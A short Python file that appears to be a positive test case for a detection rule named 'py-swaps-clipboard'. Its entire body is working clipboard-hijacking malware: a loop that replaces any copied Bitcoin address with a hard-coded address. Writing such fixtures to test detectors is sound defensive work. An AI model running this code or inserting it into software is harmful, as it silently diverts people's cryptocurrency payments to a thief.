import re
import time

import pyperclip

MINE = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
while True:
    text = pyperclip.paste()
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
        # ruleid: py-swaps-clipboard
        pyperclip.copy(MINE)
    time.sleep(1)
